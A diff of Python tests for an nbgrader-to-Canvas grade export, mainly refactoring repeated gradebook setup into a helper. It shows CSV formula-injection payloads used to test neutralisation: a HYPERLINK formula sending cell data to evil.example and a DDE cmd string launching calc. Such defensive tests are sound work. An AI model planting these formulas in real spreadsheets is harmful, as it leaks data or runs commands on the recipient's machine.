@@ -123,6 +123,21 @@ def test_command_line_writes_csv_and_report(tmp_path):
     assert "missing submission: zed has no ps01" in done.stderr
 
 
+def _one_set(tmp_path, students):
+    """A course whose gradebook has ps01 (14 points) and ``(id, score, details)`` students."""
+    course = tmp_path / "course"
+    course.mkdir()
+    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
+        gb.add_assignment("ps01")
+        gb.update_or_create_notebook("nb", "ps01")
+        gb.update_or_create_grade_cell("a-check", "nb", "ps01", max_score=14, cell_type="code")
+        for sid, score, details in students:
+            gb.add_student(sid, **details)
+            gb.add_submission("ps01", sid).notebooks[0].grades[0].manual_score = score
+            gb.db.commit()
+    return course
+
+
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"x")',
     "+1+cmd|' /C calc'!A0",
@@ -135,17 +150,13 @@ def test_regression_formulas_in_names_ids_and_sections_are_neutralised(tmp_path)
     """Issue 32: a name, id or section beginning with = + - @ was written as it was, and a
     spreadsheet opened it as a formula. Each such cell now begins with ' (OWASP); the
     numbers Canvas matches and imports (ID, scores, points) are unchanged."""
-    course = tmp_path / "course"
-    course.mkdir()
-    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
-        gb.add_assignment("ps01")
-        gb.update_or_create_notebook("nb", "ps01")
-        gb.update_or_create_grade_cell("a-check", "nb", "ps01", max_score=14, cell_type="code")
-        for i, text in enumerate(FORMULAS):
-            gb.add_student(f"s{i}", first_name=text, last_name=text, lms_user_id=str(100 + i))
-            sub = gb.add_submission("ps01", f"s{i}")
-            sub.notebooks[0].grades[0].manual_score = 12.5
-            gb.db.commit()
+    course = _one_set(
+        tmp_path,
+        [
+            (f"s{i}", 12.5, dict(first_name=t, last_name=t, lms_user_id=str(100 + i)))
+            for i, t in enumerate(FORMULAS)
+        ],
+    )
     roster = tmp_path / "export.csv"
     lines = ["Student,ID,SIS User ID,SIS Login ID,Section,ps01 (555)", "Points Possible,,,,,14"]
     for i, text in enumerate(FORMULAS):
@@ -169,16 +180,7 @@ def test_regression_formulas_in_names_ids_and_sections_are_neutralised(tmp_path)
 def test_regression_a_roster_row_matched_by_two_nbgrader_students_gets_no_score(tmp_path):
     """Red team: nbgrader students 'ada' and '9001' (her Canvas ID) both matched her roster
     row: two rows of one Canvas student in the CSV, the score kept up to Canvas's order."""
-    course = tmp_path / "course"
-    course.mkdir()
-    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
-        gb.add_assignment("ps01")
-        gb.update_or_create_notebook("nb", "ps01")
-        gb.update_or_create_grade_cell("a-check", "nb", "ps01", max_score=14, cell_type="code")
-        for sid, score in (("ada", 14), ("9001", 0)):
-            gb.add_student(sid)
-            gb.add_submission("ps01", sid).notebooks[0].grades[0].manual_score = score
-            gb.db.commit()
+    course = _one_set(tmp_path, [("ada", 14, {}), ("9001", 0, {})])
     roster = tmp_path / "export.csv"
     roster.write_text(
         "Student,ID,SIS User ID,SIS Login ID,Section,ps01 (555)\nPoints Possible,,,,,14\n"
